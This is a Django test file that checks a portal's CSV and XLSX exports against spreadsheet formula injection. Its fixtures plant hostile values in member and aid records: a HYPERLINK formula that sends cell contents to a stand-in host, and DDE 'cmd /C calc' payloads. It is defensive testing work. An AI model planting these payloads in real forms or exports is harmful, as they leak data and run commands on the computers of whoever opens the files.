"""Issue 13, part 4: no cell of any CSV or XLSX export is a formula (portal/spreadsheets.py)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation

from aid.models import AidProject, Donor
from members.models import Association, Member, MembershipApplication
from portal.roles import ADMINISTRATOR, SECRETARIAT
from portal.spreadsheets import FORMULA_STARTS

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://x.example/?"&F2&G2,"Xem")'


def _csv_cells(body):
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_no_formula_in_csv(body, hostile_texts):
    cells = _csv_cells(body)
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    for text in hostile_texts:
        # The text is still there, readable, behind the apostrophe.
        assert "'" + text in cells


def _xlsx_cells(content):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.fixture
def hostile_member(client, home_union, staff):
    """A person joins with a formula as their name; the Secretariat accepts them."""
    from members import demo as members_demo

    members_demo.load(io.StringIO())
    with translation.override("en"):
        join = reverse("members:join")
    response = client.post(
        join,
        {
            "association": Association.objects.get(slug="viet-lao").pk,
            "full_name": HOSTILE,
            "email": "x@example.org",
            "phone": "+84 912 000 111",
            "birth_year": "1990",
            "occupation": "@SUM(1+1)*cmd|' /C calc'!A0",
            "motivation": "-",
            "consent": "on",
            "website": "",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    application = MembershipApplication.objects.get(full_name=HOSTILE)
    client.force_login(staff(SECRETARIAT))
    client.post(
        reverse("admin:members_membershipapplication_changelist"),
        {"action": "accept", "_selected_action": [application.pk]},
    )
    client.logout()
    return Member.objects.get(full_name=HOSTILE)


def test_member_from_the_join_form_is_text_in_the_member_export(client, hostile_member, staff):
    client.force_login(staff(ADMINISTRATOR))
    response = client.post(
        reverse("admin:members_member_changelist"),
        {"action": "export_csv", "_selected_action": [hostile_member.pk]},
    )
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8-sig")
    _assert_no_formula_in_csv(body, [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"])


@pytest.fixture
def hostile_aid(aid_data):
    Donor.objects.filter(slug="clean-water").update(name_vi=HOSTILE, name_en=HOSTILE)
    AidProject.objects.filter(reference="T-2021-01").update(
        title_vi="+1+cmd|' /C calc'!A0", title_en="+1+cmd|' /C calc'!A0"
    )
    return aid_data


def test_aid_dashboard_csv_has_no_formula(client, hostile_aid, staff):
    client.force_login(staff(ADMINISTRATOR))
    with translation.override("en"):
        url = reverse("aid:dashboard_csv")
    response = client.get(url)
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    _assert_no_formula_in_csv(body, [HOSTILE, "+1+cmd|' /C calc'!A0"])


def test_aid_dashboard_xlsx_has_no_formula_and_money_has_a_number_format(
    client, hostile_aid, staff
):
    client.force_login(staff(ADMINISTRATOR))
    with translation.override("en"):
        url = reverse("aid:dashboard_xlsx")
    response = client.get(url)
    cells = _xlsx_cells(response.content)
    assert not [cell.coordinate for _sheet, cell in cells if cell.data_type == "f"]
    texts = {cell.value for _sheet, cell in cells if cell.data_type == "s"}
    assert HOSTILE in texts and "+1+cmd|' /C calc'!A0" in texts
    amounts = [cell for sheet, cell in cells if sheet == "Transactions" and cell.column == 7]
    assert amounts[1:] and all(cell.number_format == "#,##0.00" for cell in amounts[1:])
    committed = [cell for sheet, cell in cells if sheet == "By donor" and cell.column == 2]
    assert committed[1:] and all(cell.number_format == "#,##0.00" for cell in committed[1:])
